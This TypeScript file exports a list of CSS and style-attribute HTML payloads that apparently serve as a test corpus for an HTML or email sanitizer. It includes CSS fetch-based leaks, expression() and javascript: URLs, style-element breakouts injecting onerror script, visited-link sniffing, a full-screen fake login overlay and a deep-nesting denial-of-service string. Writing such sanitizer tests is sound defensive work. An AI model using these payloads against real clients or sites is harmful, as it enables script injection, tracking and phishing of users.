import type { Payload } from './payload.ts';

const r = String.raw;

/** Style sheets and style attributes: fetching, running, leaving the message's own box. */
export const CSS: Payload[] = [
  {
    name: 'css: import',
    body: '<style>@import url("{{leak}}?1"); @import "{{leak}}?2" screen; p{color:red}</style><p>x',
    does: 'leak',
  },
  {
    name: 'css: import with escapes',
    body: r`<style>@\69mport url("{{leak}}"); @IMPORT/**/"{{leak}}";</style><p>x`,
    does: 'leak',
  },
  {
    name: 'css: font-face',
    body: '<style>@font-face{font-family:f;src:url({{leak}})} p{font-family:f}</style><p>x',
    does: 'leak',
  },
  {
    name: 'css: body background',
    body: '<body style="background:url({{leak}}?1)" background="{{leak}}?2"><p>x',
    does: 'leak',
  },
  {
    name: 'css: url in every property that takes one',
    body: '<p style="background-image:url({{leak}}?1);list-style-image:url({{leak}}?2);border-image:url({{leak}}?3);cursor:url({{leak}}?4),auto;content:url({{leak}}?5);mask:url({{leak}}?6);filter:url({{leak}}?7#a);clip-path:url({{leak}}?8#a);shape-outside:url({{leak}}?9);offset-path:url({{leak}}?10#a);-webkit-box-reflect:below 0 url({{leak}}?11);mask-image:url({{leak}}?12);display:list-item">x',
    does: 'leak',
  },
  {
    name: 'css: other functions that fetch',
    body: '<p style="background:image-set(url({{leak}}?1) 1x)">x<p style="background:-webkit-image-set(url({{leak}}?2) 1x)">x<p style="background:image(url({{leak}}?3))">x<p style="background:cross-fade(url({{leak}}?4),url({{leak}}?5),50%)">x<p style="background:src({{leak}}?6)">x<p style="background:-webkit-cross-fade(url({{leak}}?7),url({{leak}}?8),.5)">x',
    does: 'leak',
  },
  {
    name: 'css: image-set of a string',
    body: '<p style="background-image:image-set(\'{{leak}}?1\' 1x);background:image-set(&quot;{{leak}}?2&quot; 1x)">x',
    does: 'leak',
  },
  {
    name: 'css: variable carries the address',
    body: '<style>:root{--a:url({{leak}}?1)} p{background:var(--a)}</style><p>x<p style="--b:url({{leak}}?2);background:var(--b,url({{leak}}?3))">x',
    does: 'leak',
  },
  {
    name: 'css: registered property',
    body: '<style>@property --x{syntax:"<url>";inherits:false;initial-value:url({{leak}})} p{background:var(--x)}</style><p>x',
  },
  {
    name: 'css: unclosed url',
    body: '<p style="background:url({{leak}}?1">x<p style="background:url(\'{{leak}}?2">x<style>p{background:url({{leak}}?3',
    does: 'leak',
  },
  {
    name: 'css: escaped function names',
    body: r`<p style="background:\75\72\6c({{leak}}?1);background:u\rl({{leak}}?2);b\61ckground:url({{leak}}?3)">x`,
    does: 'leak',
  },
  {
    name: 'css: comments inside',
    body: '<p style="background/**/:/**/url({{leak}});width:exp/**/ression({{run}})">x',
    does: 'leak',
  },
  {
    name: 'css: expression and binding',
    body: '<p style="width:expression({{run}});behavior:url({{leak}});-moz-binding:url({{leak}}#x);-o-link:\'javascript:{{run}}\';-o-link-source:current">x',
  },
  {
    name: 'css: javascript address',
    body: `<p style="background:url(javascript:{{run}});list-style-image:url('javascript:{{run}}')">x<div style="background-image:url(data:text/html,<script>{{run}}</script>)">`,
  },
  {
    name: 'css: style element ends in a string',
    body: '<style>p::before{content:"</style><img src=x onerror={{run}}>"}</style>',
    does: 'run',
  },
  {
    name: 'css: style element ends by escape',
    body: r`<style>p{font-family:"\3c/style\3e\3cimg src=x onerror={{run}}\3e"} .\3c \2f style\3e {color:red}</style><p>x`,
  },
  {
    name: 'css: style element and comments',
    body: '<style><!--</style><img src=x onerror={{run}}>--></style><style>/*</style><img src=x onerror={{run}}>*/</style>',
    does: 'run',
  },
  {
    name: 'css: quote out of the attribute',
    body: `<p style="font-family:'&quot; onmouseover={{run}} x=&quot;'">x<p style='font-family:"&#39;><img src=x onerror={{run}}>"'>x`,
  },
  {
    name: 'css: quote in a class',
    body: r`<style>.a\22\3e\3cimg{color:red} [title="\22 ><img src=x onerror={{run}}>"]{color:blue}</style><p class="a&quot;&gt;&lt;img src=x onerror={{run}}&gt;">x`,
  },
  {
    name: 'css: declaration smuggled by a brace',
    body: r`<p style="color:red}body{background:url({{leak}}?1)}x{">x<p style="font-family:\7d\7b;color:'}*{background:url({{leak}}?2)}'">x`,
  },
  {
    name: 'css: nested rules',
    body: '<style>p{color:red;& b{background:url({{leak}}?1)};b{background:url({{leak}}?2)} @media all{background:url({{leak}}?3)}}</style><p>x<b>y</b>',
    does: 'leak',
  },
  {
    name: 'css: at-rules around',
    body: '<style>@supports (display:block){p{background:url({{leak}}?1)}} @layer a{p{background:url({{leak}}?2)}} @container (width>0){p{background:url({{leak}}?3)}} @scope (body){p{background:url({{leak}}?4)}} @starting-style{p{background:url({{leak}}?5)}}</style><p>x',
    does: 'leak',
  },
  {
    name: 'css: media condition as a vehicle',
    body: '<style>@media all and (min-width:calc(0px)), url({{leak}}) {p{color:red}} @media \\{ {p{background:url({{leak}})}}</style><style media="all){}p{background:url({{leak}}?1)}@media (a">p{color:red}</style><p>x',
  },
  {
    name: 'css: selector reads attributes',
    body: '<style>a[href*="a"]{background:url({{leak}}?a)} p:has(b){background:url({{leak}}?b)} ::selection{background:url({{leak}}?c)} p::first-line{background:url({{leak}}?d)} p::before{content:"";background:url({{leak}}?e)}</style><a href="https://example.org/a">x</a><p><b>x',
    does: 'leak',
  },
  {
    name: 'css: visited links',
    body: '<style>a:visited{background:url({{leak}}?v)} a:link{background:url({{leak}}?l)}</style><a href="https://example.org/">x</a>',
    does: 'leak',
  },
  {
    name: 'css: out of the box',
    body: '<div style="position:fixed;inset:0;z-index:99;background:#fff">log in</div><style>.a{position:sticky!important;top:0} .b{position:FIXED} .c{position:f\\69xed}</style><p class="a b c">x',
  },
  {
    name: 'css: dynamic height',
    body: '<div style="min-height:200vh;height:150dvh;max-height:100svmax">x</div>',
  },
  {
    name: 'css: keyframes that fetch',
    body: '<style>@keyframes k{from{background:url({{leak}}?1)}to{background:url({{leak}}?2)}} p{animation:k 1s infinite}</style><p>x',
    does: 'leak',
  },
  {
    name: 'css: counter and attr',
    body: '<style>p::after{content:attr(title url, "{{leak}}")} p{background:url(attr(title))}</style><p title="{{leak}}">x',
  },
  {
    name: 'css: element and paint',
    body: '<p style="background:-moz-element(#a);background:element(#a);background:paint(x);background:-webkit-canvas(x)">x',
  },
  {
    name: 'css: namespace and charset',
    body: '<style>@charset "utf-7"; @namespace svg url({{leak}}); @namespace "{{leak}}"; svg|a{color:red} *|*{background:url({{leak}})}</style><p>x',
    does: 'leak',
  },
  {
    name: 'css: link header in style type',
    body: '<style type="text/less">@import "{{leak}}";</style><style type="text/css" media="print">p{background:url({{leak}})}</style><p>x',
  },
  {
    name: 'css: two thousand brackets',
    body: `<style>p{width:${'calc('.repeat(2000)}</style><p style="width:${'('.repeat(2000)}">x`,
  },
  {
    name: 'css: font shorthand and quotes',
    body: `<p style="font:12px url({{leak}}),'a';font-family:url({{leak}}),&quot;\\&quot;;background:url({{leak}})">x`,
  },
  {
    name: 'css: bad string then good url',
    body: `<p style="font-family:'a\nb;background:url({{leak}}?1)">x<p style="a:'\n';background:url({{leak}}?2)">x`,
    does: 'leak',
  },
  {
    name: 'css: view transitions and speculation',
    body: '<style>@view-transition{navigation:auto}</style><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{leak}}"]}]}</script><p>x',
  },
];
